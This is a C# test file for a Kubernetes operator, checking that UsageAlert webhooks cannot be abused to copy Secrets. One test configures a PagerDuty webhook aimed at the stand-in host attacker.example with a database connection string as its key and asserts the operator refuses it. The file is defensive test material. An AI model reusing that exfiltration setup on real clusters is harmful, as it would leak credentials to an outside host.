using AgentMeter.Operator.Tests.Support;
using k8s;

namespace AgentMeter.Operator.Tests.Scenarios;

/// <summary>
/// The operator as a confused deputy: an alert author names a Secret they cannot read and a target they control.
/// Only Secrets that opt in are copied, and a PagerDuty routing key only goes to PagerDuty.
/// </summary>
public class SecretReferenceTests
{
    private static string PagerDutyAlert(string name, string url, string secret, string key) => $"""
        apiVersion: agentmeter.io/v1alpha1
        kind: UsageAlert
        metadata:
          name: {name}
          namespace: {OperatorHarness.Namespace}
        spec:
          metric: errorRate
          threshold: "0.5"
          webhooks:
            - name: oncall
              format: pagerduty
              url: {url}
              routingKeySecretRef: {"{"}name: {secret}, key: {key}{"}"}
        """;


    [Fact]
    public async Task TheDatabasePasswordCannotBeSentToAnAttackersPagerDutyUrl()
    {
        await using var h = await OperatorHarness.StartAsync();
        await h.CreateSecretAsync(OperatorHarness.Namespace, "agentmeter-database", new() { ["connection-string"] = "Host=db;Password=HUNTER2" });
        await h.StartReplicaAsync();
        await h.CreateAsync(PagerDutyAlert("exfiltrate", "https://attacker.example/v2/enqueue", "agentmeter-database", "connection-string"));
        await h.CreateAsync(PagerDutyAlert("honest", "https://events.pagerduty.com/v2/enqueue", "agentmeter-database", "connection-string"));

        await OperatorHarness.WaitUntilAsync(() =>
            OperatorHarness.Condition(h.Api.Get("usagealerts", OperatorHarness.Namespace, "exfiltrate"), "Ready")?["reason"]?.GetValue<string>() == "InvalidSpec",
            "the attacker's URL is refused");
        var refused = OperatorHarness.Condition(h.Api.Get("usagealerts", OperatorHarness.Namespace, "exfiltrate"), "Ready")!["message"]!.GetValue<string>();
        Assert.Contains("spec.webhooks[0].url: a pagerduty webhook sends its routing key, so its URL must be on https://events.pagerduty.com, https://events.eu.pagerduty.com; host attacker.example is not", refused);

        // Even to PagerDuty: the database Secret never opted in, so it is never copied.
        await OperatorHarness.WaitUntilAsync(() =>
            OperatorHarness.Condition(h.Api.Get("usagealerts", OperatorHarness.Namespace, "honest"), "Ready")?["reason"]?.GetValue<string>() == "SecretNotAllowed",
            "Ready=False SecretNotAllowed");
        Assert.Contains("not labelled agentmeter.io/webhook-secret=\"true\" are never copied: agentmeter-database",
            OperatorHarness.Condition(h.Api.Get("usagealerts", OperatorHarness.Namespace, "honest"), "Ready")!["message"]!.GetValue<string>());
        await OperatorHarness.WaitUntilAsync(() => h.ResourcesYaml().Contains("name: honest"), "the honest alert handed off");
        Assert.Null(h.WebhookSecretValue(OperatorHarness.Namespace, "agentmeter-database", "connection-string"));
        Assert.Null(h.Api.Get("secrets", OperatorHarness.Namespace, "agentmeter-webhook-secrets-agentmeter"));
        Assert.DoesNotContain("name: exfiltrate", h.ResourcesYaml());
        Assert.DoesNotContain("attacker.example", h.ResourcesYaml());
        Assert.Empty(h.Api.Errors);
    }

    [Fact]
    public async Task SecretNotAllowedIsDistinctFromSecretMissingAndOptingInCopiesIt()
    {
        await using var h = await OperatorHarness.StartAsync();
        await h.CreateSecretAsync(OperatorHarness.Namespace, "pd", new() { ["routing-key"] = "R0UT1NG" });
        await h.StartReplicaAsync();
        await h.CreateAsync(PagerDutyAlert("unlabelled", "https://events.pagerduty.com/v2/enqueue", "pd", "routing-key"));
        await h.CreateAsync(PagerDutyAlert("missing", "https://events.eu.pagerduty.com/v2/enqueue", "nowhere", "routing-key"));

        string? Reason(string name) => OperatorHarness.Condition(h.Api.Get("usagealerts", OperatorHarness.Namespace, name), "Ready")?["reason"]?.GetValue<string>();
        await OperatorHarness.WaitUntilAsync(() => Reason("unlabelled") == "SecretNotAllowed" && Reason("missing") == "SecretMissing", () => $"reasons {Reason("unlabelled")}, {Reason("missing")}");
        Assert.Null(h.WebhookSecretValue(OperatorHarness.Namespace, "pd", "routing-key"));

        // The Secret's owner opts in: the next resync copies it.
        var patch = new System.Text.Json.Nodes.JsonObject { ["metadata"] = new System.Text.Json.Nodes.JsonObject { ["labels"] = new System.Text.Json.Nodes.JsonObject { ["agentmeter.io/webhook-secret"] = "true" } } };
        await h.Client.CoreV1.PatchNamespacedSecretAsync(new k8s.Models.V1Patch(patch.ToJsonString(), k8s.Models.V1Patch.PatchType.MergePatch), "pd", OperatorHarness.Namespace);
        await OperatorHarness.WaitUntilAsync(() => Reason("unlabelled") == "Valid", "Ready=True after the opt-in");
        await OperatorHarness.WaitUntilAsync(() => h.WebhookSecretValue(OperatorHarness.Namespace, "pd", "routing-key") is not null, "copied after the opt-in");
        Assert.Equal("R0UT1NG", h.WebhookSecretValue(OperatorHarness.Namespace, "pd", "routing-key"));
    }
}
